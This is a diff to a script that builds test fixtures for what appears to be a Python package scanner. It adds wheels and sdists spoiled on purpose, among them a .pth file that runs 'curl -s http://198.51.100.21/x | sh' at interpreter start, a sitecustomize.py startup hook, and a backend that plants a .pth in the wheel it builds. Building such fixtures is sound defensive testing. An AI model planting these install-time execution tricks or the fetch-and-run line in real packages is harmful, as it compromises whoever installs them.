@@ -8,6 +8,7 @@ correct RECORD, tarfile for sdists), then spoiled in one way:
   cordon_app-1.0-py3-none-any.whl        clean, and Requires-Dist: cordon-clean>=1.0 (for a resolver)
   cordon_dep-1.0-py3-none-any.whl        clean, and Requires-Dist: cordon-yanked==1.0 (a yanked dependency)
   cordon_pth-1.0-py3-none-any.whl        a .pth whose import line runs os.system (pth-code, high)
+  cordon_startup-1.0-py3-none-any.whl    a top-level sitecustomize.py (startup-code, high)
   cordon_liar-1.0-py3-none-any.whl       METADATA says requests 2.32.3
   cordon_tampered-1.0-py3-none-any.whl   a module changed after RECORD was written
   cordon_extra-1.0-py3-none-any.whl      a member RECORD does not list
@@ -28,6 +29,7 @@ correct RECORD, tarfile for sdists), then spoiled in one way:
   cordon_link-1.0.tar.gz                 an sdist with a symlink member
   cordon_sdist-1.0.tar.gz                a clean sdist
   cordon_built-1.0.tar.gz                a clean sdist with an in-tree PEP 517 backend (no build requirements)
+  cordon_pthbuild-1.0.tar.gz             the same, whose built wheel has a .pth that runs code
   cordon_evil-1.0.tar.gz                 the same shape, whose build tries to read /root, reach the index and
                                          198.51.100.20, write the store and /usr, says how each went, and fails
 
@@ -91,6 +93,8 @@ module = b'"""A clean module."""\n\ndef answer():\n    return 42\n'
 wheel("cordon_clean", "1.0", {"cordon_clean/__init__.py": module})
 wheel("cordon_app", "1.0", {"cordon_app/__init__.py": b"from cordon_clean import answer\n"}, requires=["cordon-clean>=1.0"])
 wheel("cordon_dep", "1.0", {"cordon_dep/__init__.py": module}, requires=["cordon-yanked==1.0"])
+wheel("cordon_startup", "1.0", {"cordon_startup/__init__.py": module,
+                                "sitecustomize.py": b"import os\nprint('ran at interpreter start')\n"})
 wheel("cordon_pth", "1.0", {"cordon_pth/__init__.py": module,
                             "cordon_pth.pth": b'import os; os.system("curl -s http://198.51.100.21/x | sh")\n'})
 wheel("cordon_liar", "1.0", {"cordon_liar/__init__.py": module}, meta_name="requests", meta_version="2.32.3")
@@ -142,6 +146,7 @@ BACKEND = b'''"""An in-tree build backend: writes the wheel by hand (stdlib only
 import base64, hashlib, os, zipfile
 
 NAME, VERSION = "cordon_built", "1.0"
+EXTRA = {}
 
 
 def _digest(data):
@@ -154,6 +159,7 @@ def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
     files = {f"{NAME}/__init__.py": open(os.path.join(here, NAME, "__init__.py"), "rb").read(),
              f"{dist}/METADATA": f"Metadata-Version: 2.1\\nName: {NAME.replace('_', '-')}\\nVersion: {VERSION}\\n\\n".encode(),
              f"{dist}/WHEEL": b"Wheel-Version: 1.0\\nGenerator: backend\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n\\n"}
+    files.update(EXTRA)
     record = "".join(f"{p},{_digest(b)},{len(b)}\\n" for p, b in files.items()) + f"{dist}/RECORD,,\\n"
     files[f"{dist}/RECORD"] = record.encode()
     name = f"{NAME}-{VERSION}-py3-none-any.whl"
@@ -164,6 +170,10 @@ def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
 '''
 PYPROJECT = b'[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
 sdist("cordon_built", "1.0", {"pyproject.toml": PYPROJECT, "backend.py": BACKEND, "cordon_built/__init__.py": module})
+# The same, its built wheel carrying a .pth with code: the sdist is clean, what it builds is not.
+PTH_BACKEND = BACKEND.replace(b'"cordon_built", "1.0"\nEXTRA = {}', b'"cordon_pthbuild", "1.0"\nEXTRA = {"cordon_pthbuild.pth": b"import os; os.system(\'true\')\\n"}')
+assert PTH_BACKEND != BACKEND
+sdist("cordon_pthbuild", "1.0", {"pyproject.toml": PYPROJECT, "backend.py": PTH_BACKEND, "cordon_pthbuild/__init__.py": module})
 
 EVIL = b'''"""A build backend that attacks the build sandbox, says how each attempt went, and fails."""
 import os, socket, sys, urllib.request
